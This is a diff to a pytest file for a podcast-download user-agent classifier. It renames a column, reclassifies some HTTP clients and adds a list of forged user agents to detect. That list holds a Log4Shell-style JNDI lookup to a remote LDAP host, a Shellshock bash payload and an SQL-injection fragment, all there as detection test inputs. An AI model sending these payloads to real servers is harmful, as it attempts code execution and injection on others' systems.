@@ -31,7 +31,7 @@ POSTGRES_ONLY = re.compile(r"\\[ymMAZbB<>]|\[\[[:.=]")
 
 
 class Rule(NamedTuple):
-    """A compiled seed row: `label` is (category, name, counts) or (device name, category)."""
+    """A compiled seed row: `label` is (category, name, discard_as) or (device name, category)."""
 
     pattern: re.Pattern[str]
     label: tuple[str, ...]
@@ -54,7 +54,7 @@ def first_match(rules: list[Rule], user_agent: str) -> tuple[str, ...] | None:
 
 @pytest.fixture(scope="module")
 def client_rules() -> list[Rule]:
-    return compiled("user_agent_patterns.csv", ("category", "name", "counts"))
+    return compiled("user_agent_patterns.csv", ("category", "name", "discard_as"))
 
 
 @pytest.fixture(scope="module")
@@ -79,20 +79,20 @@ def test_seed_is_well_formed(seed: str) -> None:
 
 def test_categories_stand_in_the_documented_order() -> None:
     rows = read_seed("user_agent_patterns.csv")
-    assert list(rows[0]) == ["match_order", "category", "name", "pattern", "counts", "note"]
+    assert list(rows[0]) == ["match_order", "category", "name", "pattern", "discard_as", "note"]
     assert list(dict.fromkeys(row["category"] for row in rows)) == CATEGORIES
     assert [row["category"] for row in rows] == sorted((row["category"] for row in rows), key=CATEGORIES.index)
 
 
 def test_only_libraries_may_go_either_way() -> None:
-    counts: dict[str, set[str]] = {category: set() for category in CATEGORIES}
+    reasons: dict[str, set[str]] = {category: set() for category in CATEGORIES}
     for row in read_seed("user_agent_patterns.csv"):
-        counts[row["category"]].add(row["counts"])
-    assert counts == {
-        "bot": {"false"},
-        "app": {"true"},
-        "library": {"true", "false"},
-        "browser": {"true"},
+        reasons[row["category"]].add(row["discard_as"])
+    assert reasons == {
+        "bot": {"bot", "apple_watch", "forged_user_agent"},
+        "app": {""},
+        "library": {"", "not_a_player"},
+        "browser": {""},
     }
 
 
@@ -107,88 +107,164 @@ IOS_WEBKIT = "(iPhone; CPU iPhone OS 17_2 like Mac OS X) AppleWebKit/605.1.15 (K
 IPHONE = "(iPhone; U; CPU OS 15_8_2 like Mac OS X; en_us)"
 FEEDS = "Feed parsers of podcast apps"
 WEB_VIEW = "Other web view with an app token"
+CLOTHES = "Contact address in a browser's clothes"
+COMPATIBLE = "Declared compatible in a browser's clothes"
+ON_LINUX = "Web view with an unknown token on Linux"
+ITS_CLIENT = "App that names itself after its system client"
 CAR = "Android Auto or built-in car system"
 CLIENTS = [
     # bots
-    ("Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)", "bot", "Googlebot", "false"),
-    ("facebookexternalhit/1.1", "bot", "Meta", "false"),
-    ("atc/1.0 watchOS/7.1 model/Watch5,4 hwp/t8006", "bot", "Apple Podcasts (Watch)", "false"),
-    ("atc/1.0", "bot", "Apple Podcasts (Watch)", "false"),
-    ("(null)/(null) watchOS/5.0.1 model/Watch3,3", "bot", "Apple Podcasts (Watch)", "false"),
-    ("iTMS", "bot", "iTMS", "false"),
-    ("ListenNotes/3.0 (id=c1ef; +https://www.listennotes.com/about/)", "bot", "Listen Notes", "false"),
-    ("Overcast/1.0 Podcast Sync (1 subscribers; feed-id=1)", "bot", FEEDS, "false"),
-    ("Mastodon/4.3.9 (http.rb/5.2.0; +https://example.social/)", "bot", "Fediverse server", "false"),
-    ("IsItDown/1.0", "bot", "Uptime and synthetic monitoring", "false"),
-    ("masscan/1.3", "bot", "Security scanners", "false"),
-    ("ZmEu", "bot", "Security scanners", "false"),
-    (f"Mozilla/5.0 (X11) {WEBKIT} HeadlessChrome/105.0 Safari/537.36", "bot", "Automated browsers", "false"),
-    ("Mozilla/5.0", "bot", "Bare Mozilla token", "false"),
-    ("Mozilla/5.0 (compatible; Somebody/1.0)", "bot", "Declared compatible client", "false"),
-    ("SomethingBot/1.0", "bot", "Generic: bot", "false"),
-    ("my-episode-thing/0.1", "bot", "Generic: hyphenated script name", "false"),
-    ("Unheard/1.0 (+https://unheard.example/about)", "bot", "Generic: contact address", "false"),
+    ("Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)", "bot", "Googlebot", "bot"),
+    ("facebookexternalhit/1.1", "bot", "Meta", "bot"),
+    ("atc/1.0 watchOS/7.1 model/Watch5,4 hwp/t8006", "bot", "Apple Podcasts (Watch)", "apple_watch"),
+    ("atc/1.0", "bot", "Apple Podcasts (Watch)", "bot"),
+    ("(null)/(null) watchOS/5.0.1 model/Watch3,3", "bot", "Apple Podcasts (Watch)", "apple_watch"),
+    ("iTMS", "bot", "iTMS", "bot"),
+    ("ListenNotes/3.0 (id=c1ef; +https://www.listennotes.com/about/)", "bot", "Listen Notes", "bot"),
+    ("Overcast/1.0 Podcast Sync (1 subscribers; feed-id=1)", "bot", FEEDS, "bot"),
+    ("Mastodon/4.3.9 (http.rb/5.2.0; +https://example.social/)", "bot", "Fediverse server", "bot"),
+    ("IsItDown/1.0", "bot", "Uptime and synthetic monitoring", "bot"),
+    ("masscan/1.3", "bot", "Security scanners", "bot"),
+    ("ZmEu", "bot", "Security scanners", "bot"),
+    (f"Mozilla/5.0 (X11) {WEBKIT} HeadlessChrome/105.0 Safari/537.36", "bot", "Automated browsers", "bot"),
+    ("Mozilla/5.0 (compatible; Somebody/1.0)", "bot", "Declared compatible client", "bot"),
+    ("SomethingBot/1.0", "bot", "Generic: bot", "bot"),
+    ("my-episode-thing/0.1", "bot", "Generic: hyphenated script name", "bot"),
+    ("Unheard/1.0 (+https://unheard.example/about)", "bot", "Generic: contact address", "bot"),
+    (
+        f"Mozilla/5.0 (X11; Linux x86_64) {WEBKIT} Chrome/99.0 Safari/537.36 (+https://x.example)",
+        "bot",
+        CLOTHES,
+        "bot",
+    ),
+    ("Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; Some/1.0)", "bot", COMPATIBLE, "bot"),
+    (f"Mozilla/5.0 (X11; Linux x86_64) {WEBKIT} Chrome/99.0 Safari/537.36 Render/1.0", "bot", ON_LINUX, "bot"),
     # apps
-    ("Podcasts/4023.510.2 CFNetwork/1494.0.7 Darwin/23.4.0", "app", "Apple Podcasts", "true"),
-    ("Podcaster/1709.2.2 CFNetwork/1390 Darwin/22.0.0", "app", "Apple Podcasts", "true"),
-    ("\u64ad\u5ba2/1709.2.2 CFNetwork/1390 Darwin/22.0.0", "app", "Apple Podcasts", "true"),
-    ("%E6%92%AD%E5%AE%A2/1660.5 CFNetwork/1335.0.3 Darwin/21.6.0", "app", "Apple Podcasts", "true"),
-    ("iTunes/11.1.3 (Windows; Microsoft Windows 7 Service Pack 1)", "app", "iTunes", "true"),
-    ("iTunes/10.7 Downcast/2.8.13.1001", "app", "Downcast", "true"),
-    ("Overcast/2.0 (+http://overcast.fm/; iOS podcast app)", "app", "Overcast", "true"),
-    ("Pocket%20Casts/7.95.0.4 CFNetwork/3826.600.41 Darwin/24.6.0", "app", "Pocket Casts", "true"),
-    ("Shifty Jelly Pocket Casts, Android v4.4.2", "app", "Pocket Casts", "true"),
-    ("CastBox/8.2.6 (Linux;Android 10) ExoPlayerLib/2.10.4", "app", "Castbox", "true"),
-    ("PodcastAddict/v2 - Dalvik/2.1.0 (Linux; U; Android 9)", "app", "Podcast Addict", "true"),
-    ("AntennaPod/3.4.0", "app", "AntennaPod", "true"),
-    ("Spotify/8.9.42.575 Android/33 (LM-G900)", "app", "Spotify", "true"),
-    ("gPodder/3.10.21 (+http://gpodder.org/) Linux", "app", "gPodder", "true"),
-    ("Amazon;Echo_Dot;27d4dfe427b34d57995b463e5d63198d;;tpapi;3.199", "app", "Amazon Alexa", "true"),
-    ("NSPlayer/10.0.0.4072 WMFSDK/10.0", "app", "Windows Media Player", "true"),
-    ("Tweetbot/53300 CFNetwork/1335.0.3 Darwin/21.6.0", "app", "X (Twitter)", "true"),
-    (f"Mozilla/5.0 {IOS_WEBKIT} Mobile/15E148 Instagram 108.0", "app", "Facebook and Instagram", "true"),
-    (f"Mozilla/5.0 {IOS_WEBKIT} Mobile/15E148 NewApp/1.2", "app", WEB_VIEW, "true"),
-    ("Grace%20Church/4.9.2 CFNetwork/893.14.2 Darwin/17.3.0", "app", "Other Apple app", "true"),
-    ("NewRadio/9.1.0 (Linux;Android 11) ExoPlayerLib/2.9.2", "app", "Other Android app", "true"),
-    ("Newcomer 2.4", "app", "Other app", "true"),
+    ("Podcasts/4023.510.2 CFNetwork/1494.0.7 Darwin/23.4.0", "app", "Apple Podcasts", ""),
+    ("Podcaster/1709.2.2 CFNetwork/1390 Darwin/22.0.0", "app", "Apple Podcasts", ""),
+    ("\u64ad\u5ba2/1709.2.2 CFNetwork/1390 Darwin/22.0.0", "app", "Apple Podcasts", ""),
+    ("%E6%92%AD%E5%AE%A2/1660.5 CFNetwork/1335.0.3 Darwin/21.6.0", "app", "Apple Podcasts", ""),
+    ("iTunes/11.1.3 (Windows; Microsoft Windows 7 Service Pack 1)", "app", "iTunes", ""),
+    ("iTunes/10.7 Downcast/2.8.13.1001", "app", "Downcast", ""),
+    ("Overcast/2.0 (+http://overcast.fm/; iOS podcast app)", "app", "Overcast", ""),
+    ("Pocket%20Casts/7.95.0.4 CFNetwork/3826.600.41 Darwin/24.6.0", "app", "Pocket Casts", ""),
+    ("Shifty Jelly Pocket Casts, Android v4.4.2", "app", "Pocket Casts", ""),
+    ("CastBox/8.2.6 (Linux;Android 10) ExoPlayerLib/2.10.4", "app", "Castbox", ""),
+    ("PodcastAddict/v2 - Dalvik/2.1.0 (Linux; U; Android 9)", "app", "Podcast Addict", ""),
+    ("AntennaPod/3.4.0", "app", "AntennaPod", ""),
+    ("Spotify/8.9.42.575 Android/33 (LM-G900)", "app", "Spotify", ""),
+    ("gPodder/3.10.21 (+http://gpodder.org/) Linux", "app", "gPodder", ""),
+    ("Amazon;Echo_Dot;27d4dfe427b34d57995b463e5d63198d;;tpapi;3.199", "app", "Amazon Alexa", ""),
+    ("NSPlayer/10.0.0.4072 WMFSDK/10.0", "app", "Windows Media Player", ""),
+    ("Tweetbot/53300 CFNetwork/1335.0.3 Darwin/21.6.0", "app", "X (Twitter)", ""),
+    (f"Mozilla/5.0 {IOS_WEBKIT} Mobile/15E148 Instagram 108.0", "app", "Facebook and Instagram", ""),
+    (f"Mozilla/5.0 {IOS_WEBKIT} Mobile/15E148 NewApp/1.2", "app", WEB_VIEW, ""),
+    ("Grace%20Church/4.9.2 CFNetwork/893.14.2 Darwin/17.3.0", "app", "Other Apple app", ""),
+    ("NewRadio/9.1.0 (Linux;Android 11) ExoPlayerLib/2.9.2", "app", "Other Android app", ""),
+    ("Newcomer 2.4", "app", "Other app", ""),
+    ("Dalvik/2.1.0 (Linux; U; Android 13; SM-G991U) newcast/3.7.0", "app", ITS_CLIENT, ""),
+    ("Mozilla/5.0 (Linux; U; Android 9) Newcast", "app", "App with a platform and no engine", ""),
     # libraries: players count, scripts do not
-    (f"AppleCoreMedia/1.0.0.19H384 {IPHONE}", "library", "AppleCoreMedia", "true"),
-    ("stagefright/1.2 (Linux;Android 4.4)", "library", "stagefright", "true"),
-    ("Dalvik/2.1.0 (Linux; U; Android 9; SM-N950U)", "library", "Dalvik", "true"),
-    ("ExoPlayer/11.2 (Linux;Android 8) AndroidXMedia3/1.4.1", "library", "ExoPlayer and Media3", "true"),
-    ("Lavf/55.33.100", "library", "Lavf", "true"),
-    ("curl/7.51.0", "library", "curl", "false"),
-    ("Wget/1.14 (darwin12.4.0)", "library", "wget", "false"),
-    ("python-requests/2.31.0", "library", "Python", "false"),
-    ("Go-http-client/1.1", "library", "Go", "false"),
-    ("okhttp/3.11.0", "library", "OkHttp", "false"),
-    ("Apache-HttpClient/4.5.13 (Java/17.0.10)", "library", "Apache HttpClient", "false"),
-    ("Java/17.0.1", "library", "Java and Kotlin", "false"),
-    ("libwww-perl/6.34", "library", "Perl", "false"),
+    (f"AppleCoreMedia/1.0.0.19H384 {IPHONE}", "library", "AppleCoreMedia", ""),
+    ("stagefright/1.2 (Linux;Android 4.4)", "library", "stagefright", ""),
+    ("Dalvik/2.1.0 (Linux; U; Android 9; SM-N950U)", "library", "Dalvik", ""),
+    ("ExoPlayer/11.2 (Linux;Android 8) AndroidXMedia3/1.4.1", "library", "ExoPlayer and Media3", ""),
+    ("Lavf/55.33.100", "library", "Lavf", ""),
+    ("curl/7.51.0", "bot", "curl", "bot"),
+    ("Wget/1.14 (darwin12.4.0)", "bot", "Wget", "bot"),
+    ("python-requests/2.31.0", "bot", "python-requests", "bot"),
+    ("Go-http-client/1.1", "library", "Go", "not_a_player"),
+    ("okhttp/3.11.0", "library", "OkHttp", "not_a_player"),
+    ("Apache-HttpClient/4.5.13 (Java/17.0.10)", "library", "Apache HttpClient", "not_a_player"),
+    ("Python/3.10 aiohttp/3.9.3", "library", "Python", "not_a_player"),
+    ("Somebody-HttpClient/2.1", "library", "Other HTTP client", "not_a_player"),
+    ("Java/17.0.1", "library", "Java and Kotlin", "not_a_player"),
+    ("libwww-perl/6.34", "bot", "libwww-perl", "bot"),
     # browsers
-    (f"Mozilla/5.0 (X11; Linux x86_64) {WEBKIT} Chrome/120.0 Safari/537.36", "browser", "Chrome", "true"),
-    ("Mozilla/5.0 (X11; Linux x86_64; rv:25.0) Gecko/20100101 Firefox/25.0", "browser", "Firefox", "true"),
-    (f"Mozilla/5.0 {IOS_WEBKIT} Version/17.2 Mobile/15E148 Safari/604.1", "browser", "Safari", "true"),
-    (f"Mozilla/5.0 {IOS_WEBKIT} Mobile/15E148", "browser", "Web view on iOS", "true"),
+    (f"Mozilla/5.0 (X11; Linux x86_64) {WEBKIT} Chrome/120.0 Safari/537.36", "browser", "Chrome", ""),
+    ("Mozilla/5.0 (X11; Linux x86_64; rv:25.0) Gecko/20100101 Firefox/25.0", "browser", "Firefox", ""),
+    (f"Mozilla/5.0 {IOS_WEBKIT} Version/17.2 Mobile/15E148 Safari/604.1", "browser", "Safari", ""),
+    (f"Mozilla/5.0 {IOS_WEBKIT} Mobile/15E148", "browser", "Web view on iOS", ""),
     (
         f"Mozilla/5.0 (Windows NT 10.0) {WEBKIT} Chrome/120.0 Safari/537.36 Edg/120.0",
         "browser",
         "Edge",
-        "true",
+        "",
     ),
-    ("Mozilla/5.0 (compatible; MSIE 9.0; Windows NT 6.1)", "browser", "Internet Explorer", "true"),
+    ("Mozilla/5.0 (compatible; MSIE 9.0; Windows NT 6.1)", "browser", "Internet Explorer", ""),
     (
         f"Mozilla/5.0 (Linux; Android 9; CUBOT X19) {WEBKIT} Chrome/78.0 Mobile Safari/537.36",
         "browser",
         "Chrome",
-        "true",
+        "",
     ),
 ]
 
 
-@pytest.mark.parametrize(("user_agent", "category", "name", "counts"), CLIENTS)
-def test_client(client_rules: list[Rule], user_agent: str, category: str, name: str, counts: str) -> None:
-    assert first_match(client_rules, user_agent) == (category, name, counts)
+@pytest.mark.parametrize(("user_agent", "category", "name", "discard_as"), CLIENTS)
+def test_client(client_rules: list[Rule], user_agent: str, category: str, name: str, discard_as: str) -> None:
+    assert first_match(client_rules, user_agent) == (category, name, discard_as)
+
+
+FORGED = [
+    ("Mozilla/5.0", "Bare Mozilla token"),
+    ("Mozilla/4.0 (compatible;)", "Bare Mozilla token"),
+    ("${jndi:ldap://198.18.0.1/a}", "Placeholder"),
+    ("{{user_agent}}", "Placeholder"),
+    ("{user_agent}", "Placeholder"),
+    ("<user-agent>", "Placeholder"),
+    ("%s", "Placeholder"),
+    ("null", "Placeholder"),
+    ("undefined", "Placeholder"),
+    ("None", "Placeholder"),
+    ("[object Object]", "Placeholder"),
+    ("User-Agent", "Placeholder"),
+    (f"Mozilla/5.0 (Windows NT 10.0) {WEBKIT} Chrome/W.X.Y.Z Safari/537.36", "Placeholder of a version"),
+    ("Podcast\x07Player/1.0", "Control characters"),
+    ("Podcast\\x00Player/1.0", "Control characters"),
+    (f'"Mozilla/5.0 (X11; Linux x86_64) {WEBKIT} Chrome/120.0 Safari/537.36"', "Quotes around the whole"),
+    ("'Overcast/3.0'", "Quotes around the whole"),
+    ("() { :;}; /bin/bash -c 'id'", "Attack in place of a user agent"),
+    ("Mozilla/5.0' or '1'='1", "Attack in place of a user agent"),
+    (f"Mozilla/5.0 (Windows NT 10.0; iPhone) {WEBKIT} Safari/604.1", "Two systems at once"),
+    (f"Mozilla/5.0 (Macintosh; Windows NT 10.0) {WEBKIT} Chrome/99.0 Safari/537.36", "Two systems at once"),
+    (
+        f"Mozilla/5.0 (Windows NT 11.0; Win64; x64) {WEBKIT} Chrome/120.0 Safari/537.36",
+        "Windows that does not exist",
+    ),
+    ("Mozilla/5.0 (Windows NT 10.0; Win64; x64) Chrome/120.0.0.0 Safari/537.36", "Browser without an engine"),
+    ("Chrome/120.0.0.0", "Browser without an engine"),
+    (
+        "Mozilla/5.0 (iPhone; CPU iPhone OS 17_2 like Mac OS X; rv:109.0) Gecko/20100101 Firefox/115.0",
+        "Gecko on iOS",
+    ),
+]
+
+
+@pytest.mark.parametrize(("user_agent", "name"), FORGED)
+def test_forged(client_rules: list[Rule], user_agent: str, name: str) -> None:
+    assert first_match(client_rules, user_agent) == ("bot", name, "forged_user_agent")
+
+
+@pytest.mark.parametrize(
+    "user_agent",
+    [
+        # Windows Phone took the names of all others; an app without a name says (null).
+        "Mozilla/5.0 (Mobile; Windows Phone 8.1; Android 4.0; Trident/7.0) like iPhone OS 7_0_3",
+        "Mozilla/4.0 (compatible; MSIE 8.0; Windows NT 6.1; Trident/4.0)",
+        "Mozilla/5.0 (compatible; Somebody/1.0)",
+        "Opera/9.80 (Windows NT 6.1; U; en) Presto/2.10.229 Version/11.62",
+        "(null)/1.0 CFNetwork/1410.0.3 Darwin/22.6.0",
+        "Chrome/120.0.6099.101 CFNetwork/1410.0.3 Darwin/22.6.0",
+        "Player's Choice/1.0 (Linux;Android 12) ExoPlayerLib/2.18.1",
+        "%E6%92%AD%E5%AE%A2/1660.5 CFNetwork/1335.0.3 Darwin/21.6.0",
+        "Null Radio/1.0 (iPhone; iOS 17.0)",
+        "yourApplicationName/1.0 (Linux;Android 12) ExoPlayerLib/2.18.1",
+    ],
+)
+def test_odd_but_not_forged(client_rules: list[Rule], user_agent: str) -> None:
+    found = first_match(client_rules, user_agent)
+    assert found is None or found[2] != "forged_user_agent"
 
 
 @pytest.mark.parametrize("user_agent", ["", "-", ".", "0"])
